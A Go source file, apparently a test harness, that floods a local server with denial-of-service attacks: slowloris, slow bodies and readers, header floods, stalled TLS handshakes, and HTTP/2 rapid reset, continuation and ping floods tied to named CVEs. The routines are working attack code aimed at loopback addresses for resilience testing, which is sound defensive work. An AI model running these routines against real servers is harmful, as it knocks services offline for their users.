package main

import (
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"time"
)

// attack is one way to use up a server. run attacks until ctx ends, from loopback addresses that no honest client has.
type attack struct {
	name string
	run  func(ctx context.Context, r *resident, strength int)
}

// attacks are all of them. strength is 1 in tests.
var attacks = []attack{
	{"nobody", func(ctx context.Context, _ *resident, _ int) { <-ctx.Done() }},
	{"slowloris", slowloris},
	{"slow bodies", slowBodies},
	{"slow readers", slowReaders},
	{"header flood", headerFlood},
	{"silent handshakes", silentHandshakes},
	{"rapid reset", rapidReset},
	{"continuation flood", continuationFlood},
	{"settings and ping flood", pingFlood},
	{"5,000 addresses", connectionFlood},
}

// villain is the n-th address of an attacker.
func villain(n int) net.IP { return net.IPv4(127, byte(100+n/62500), byte(n/250%250), byte(1+n%250)) }

// crowd runs n copies of one, each again and again until ctx ends.
func crowd(ctx context.Context, n int, one func(ctx context.Context, i int)) {
	var wg sync.WaitGroup
	for i := range n {
		wg.Go(func() {
			for ctx.Err() == nil {
				one(ctx, i)
				if !every(ctx, 20*time.Millisecond) { // refused at once, it does not become a busy loop of our own
					return
				}
			}
		})
	}
	wg.Wait()
}

// dial connects from a villain's address; ctx's end closes the connection.
func dial(ctx context.Context, address string, from int) (net.Conn, func(), error) {
	d := net.Dialer{Timeout: 10 * time.Second, LocalAddr: &net.TCPAddr{IP: villain(from)}}
	c, err := d.DialContext(ctx, "tcp", address)
	if err != nil {
		return nil, nil, err
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	return c, func() { stop(); _ = c.Close() }, nil
}

// drip writes text a byte at a time, with pauses, until somebody has had enough.
func drip(ctx context.Context, c io.Writer, text string, pause time.Duration) {
	for i := range text {
		if _, err := c.Write([]byte{text[i]}); err != nil || !every(ctx, pause) {
			return
		}
	}
}

const attackHead = "Host: soak.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"

func slowloris(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 60*strength, func(ctx context.Context, i int) {
		c, done, err := dial(ctx, r.plain, i)
		if err != nil {
			return
		}
		defer done()
		drip(ctx, c, "GET /echo/x?size=1 HTTP/1.1\r\n"+attackHead+strings.Repeat("X-A: b\r\n", 500), 700*time.Millisecond)
	})
}

func slowBodies(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 60*strength, func(ctx context.Context, i int) {
		c, done, err := dial(ctx, r.plain, i)
		if err != nil {
			return
		}
		defer done()
		if _, err := io.WriteString(c, "POST /echo/x?size=1 HTTP/1.1\r\n"+attackHead+"Content-Length: 1000000\r\n\r\n"); err == nil {
			drip(ctx, c, strings.Repeat("x", 1000), 700*time.Millisecond)
		}
	})
}

// slowReaders ask for much, again and again on one connection, and read next to nothing.
func slowReaders(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 30*strength, func(ctx context.Context, i int) {
		c, done, err := dial(ctx, r.plain, i)
		if err != nil {
			return
		}
		defer done()
		_ = c.(*net.TCPConn).SetReadBuffer(4096)
		if _, err := io.WriteString(c, strings.Repeat("GET /echo/x?size=16000000 HTTP/1.1\r\n"+attackHead+"\r\n", 20)); err != nil {
			return
		}
		for one := make([]byte, 1); every(ctx, 500*time.Millisecond); {
			if _, err := c.Read(one); err != nil {
				return
			}
		}
	})
}

func headerFlood(ctx context.Context, r *resident, strength int) {
	long := "X-Long: " + strings.Repeat("a", 30_000) + "\r\n"
	crowd(ctx, 4*strength, func(ctx context.Context, i int) {
		c, done, err := dial(ctx, r.plain, i)
		if err != nil {
			return
		}
		defer done()
		if _, err := io.WriteString(c, "GET /echo/x?size=1 HTTP/1.1\r\n"+attackHead); err != nil {
			return
		}
		for n := 0; ctx.Err() == nil; n++ {
			line := long
			if i%2 == 0 {
				line = fmt.Sprintf("X-%d: b\r\n", n)
			}
			if _, err := io.WriteString(c, line); err != nil {
				return
			}
		}
	})
}

// silentHandshakes begin TLS and do not go on.
func silentHandshakes(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 60*strength, func(ctx context.Context, i int) {
		c, done, err := dial(ctx, r.secure, i)
		if err != nil {
			return
		}
		defer done()
		if _, err := c.Write([]byte{22, 3, 1, 2, 0}); err == nil { // the head of a record of 512 bytes
			_, _ = io.Copy(io.Discard, c)
		}
	})
}

// Frames of RFC 9113 as far as attacks need them.
const (
	h2Headers, h2Reset, h2Settings, h2Ping, h2Continuation = 1, 3, 4, 6, 9
	h2EndStream, h2EndHeaders                              = 1, 4
)

func appendH2(dst []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	dst = append(dst, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(dst, stream), payload...)
}

// h2Request is a header block of literals (RFC 7541 section 6.2.2).
func h2Request(path string) (out []byte) {
	for _, s := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "soak.example"}, {":path", path}} {
		out = append(out, 0, byte(len(s[0])))
		out = append(append(out, s[0]...), byte(len(s[1])))
		out = append(out, s[1]...)
	}
	return out
}

// multiplexed opens an HTTP/2 connection and throws away what comes.
func multiplexed(ctx context.Context, r *resident, from int) (io.Writer, func(), error) {
	c, done, err := dial(ctx, r.secure, from)
	if err != nil {
		return nil, nil, err
	}
	t := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // loopback
	if err := t.HandshakeContext(ctx); err != nil {
		done()
		return nil, nil, err
	}
	go func() { _, _ = io.Copy(io.Discard, t); _ = c.Close() }()
	if _, err := t.Write(appendH2([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), h2Settings, 0, 0, nil)); err != nil {
		done()
		return nil, nil, err
	}
	return t, done, nil
}

// rapidReset is CVE-2023-44487: requests that are taken back at once, so that none counts against the limit of streams.
func rapidReset(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 4*strength, func(ctx context.Context, i int) {
		c, done, err := multiplexed(ctx, r, i)
		if err != nil {
			return
		}
		defer done()
		block := h2Request("/echo/x?size=100000")
		var out []byte
		for stream := uint32(1); stream < 1<<20 && ctx.Err() == nil; {
			out = out[:0]
			for range 50 {
				out = appendH2(out, h2Headers, h2EndStream|h2EndHeaders, stream, block)
				out = appendH2(out, h2Reset, 0, stream, []byte{0, 0, 0, 8})
				stream += 2
			}
			if _, err := c.Write(out); err != nil {
				return
			}
		}
	})
}

// continuationFlood never ends a header block (CVE-2023-45288).
func continuationFlood(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 4*strength, func(ctx context.Context, i int) {
		c, done, err := multiplexed(ctx, r, i)
		if err != nil {
			return
		}
		defer done()
		if _, err := c.Write(appendH2(nil, h2Headers, h2EndStream, 1, h2Request("/echo/x?size=1"))); err != nil {
			return
		}
		field := append([]byte{0, 3, 'x', '-', 'a', 100}, strings.Repeat("a", 100)...)
		for payload := []byte(strings.Repeat(string(field), 100)); ctx.Err() == nil; {
			if _, err := c.Write(appendH2(nil, h2Continuation, 0, 1, payload)); err != nil {
				return
			}
		}
	})
}

// pingFlood asks for answers that nobody reads (CVE-2019-9512, CVE-2019-9515).
func pingFlood(ctx context.Context, r *resident, strength int) {
	crowd(ctx, 4*strength, func(ctx context.Context, i int) {
		c, done, err := multiplexed(ctx, r, i)
		if err != nil {
			return
		}
		defer done()
		var out []byte
		for range 100 {
			out = appendH2(out, h2Ping, 0, 0, make([]byte, 8))
			out = appendH2(out, h2Settings, 0, 0, nil)
		}
		for ctx.Err() == nil {
			if _, err := c.Write(out); err != nil {
				return
			}
		}
	})
}

// connectionFlood opens connections from 5,000 addresses, as fast as it can, and says nothing on them, or a beginning.
func connectionFlood(ctx context.Context, r *resident, strength int) {
	const addresses = 5000
	crowd(ctx, 250*strength, func(ctx context.Context, i int) {
		var held []func()
		for n := range 4 * addresses / (250 * strength) {
			c, done, err := dial(ctx, r.plain, (i*addresses/(250*strength)+n)%addresses)
			if err != nil {
				break
			}
			held = append(held, done)
			if rand.IntN(2) == 0 { //nolint:gosec // any
				_, _ = io.WriteString(c, "GET /echo/x?si")
			}
		}
		every(ctx, 3*time.Second)
		for _, done := range held {
			done()
		}
	})
}
